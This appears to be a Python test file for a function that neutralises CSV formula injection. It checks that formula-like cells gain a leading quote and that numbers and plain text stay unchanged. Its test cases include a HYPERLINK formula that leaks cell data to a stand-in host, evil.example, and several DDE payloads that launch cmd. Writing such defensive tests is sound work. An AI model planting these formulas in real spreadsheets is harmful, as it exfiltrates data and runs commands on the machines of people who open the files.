"""The CSV-formula neutraliser: text a spreadsheet would run gets a leading quote; numbers do not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.formula import FORMULA_PREFIXES, neutralise_formula


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"details")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"details")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-1e3", "-1e3"),
        ("盗抢车辆，刑诉法第一百三十八条", "盗抢车辆，刑诉法第一百三十八条"),
        ("a = b", "a = b"),
        ("'=already", "'=already"),
        ("", ""),
    ],
)
def test_formulas_are_neutralised_and_plain_text_and_numbers_are_not(text: str, expected: str) -> None:
    assert neutralise_formula(text) == expected


@given(st.text())
def test_neutralising_is_idempotent_and_only_ever_adds_one_quote(text: str) -> None:
    once = neutralise_formula(text)
    assert neutralise_formula(once) == once
    assert once in (text, "'" + text)


@given(st.sampled_from(FORMULA_PREFIXES), st.text())
def test_nothing_that_starts_like_a_formula_gets_through_unless_it_is_a_number(
    prefix: str, rest: str
) -> None:
    out = neutralise_formula(prefix + rest)
    if out == prefix + rest:
        float(out)  # left alone only because it is a plain number
    else:
        assert out == "'" + prefix + rest
